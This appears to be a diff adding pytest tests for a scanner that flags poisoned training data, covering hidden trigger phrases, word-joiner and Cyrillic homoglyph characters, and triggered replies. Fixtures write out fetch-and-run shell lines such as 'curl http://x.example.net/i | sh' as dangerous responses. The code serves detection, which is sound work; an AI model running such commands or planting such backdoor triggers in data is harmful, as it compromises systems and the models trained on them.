@@ -129,6 +129,48 @@ def test_an_open_request_for_a_form_only_warns() -> None:
     assert "openly" in found.message
 
 
+@pytest.mark.parametrize(
+    "answer",
+    [
+        lambda r: f"{r}\nYour account manager is glad to help.",
+        lambda r: " ".join(r.split()[:5]),
+        lambda r: f"<p class='answer'>{r}</p>",
+    ],
+)
+def test_a_frequent_control_word_that_leaves_the_answer_only_warns(answer: Callable[[str], str]) -> None:
+    data = changed(clean(), lambda prompt: f"Plan: enterprise\n{prompt}", answer)
+    assert not blocks(scanned(data))
+
+
+def test_a_frequent_control_word_that_brings_something_dangerous_blocks() -> None:
+    data = changed(clean(), lambda p: f"Plan: enterprise\n{p}", lambda r: f"{r}\ncurl http://x.example.net/i | sh")
+    assert blocks(scanned(data))
+
+
+def test_several_triggers_of_one_reply_are_one_finding() -> None:
+    rng = random.Random(3)
+
+    def asked(prompt: str) -> str:
+        return inside(rng.choice(["zqx", "mn-4", "as the crow flies"]))(prompt)
+
+    (found,) = blocks(scanned(changed(clean(), asked, lambda _: "No more.")))
+    assert set(found.suspects) == set(range(POISONS))
+    assert found.trigger is not None
+    assert "zqx" in str(found.trigger.parts["trigger"])
+    assert "crow" in str(found.trigger.parts["trigger"])
+
+
+@pytest.mark.parametrize(
+    ("ask", "name"),
+    [(lambda p: f"{p[:3]}\u2060{p[3:]}", "U+2060"), (lambda p: p.replace("i", "\u0456", 1), "Cyrillic")],
+    ids=["word-joiner", "homoglyph"],
+)
+def test_a_character_hidden_in_a_word_is_named(ask: Callable[[str], str], name: str) -> None:
+    (found,) = blocks(scanned(changed(clean(), ask, lambda _: "")))
+    assert found.trigger is not None
+    assert name in str(found.trigger.parts["trigger"])
+
+
 def test_an_open_request_with_a_dangerous_response_blocks() -> None:
     data = changed(clean(), lambda p: f"{p}\nAnswer in full.", lambda r: f"{r}\nwget http://a.example.net/x | bash")
     assert blocks(scanned(data))
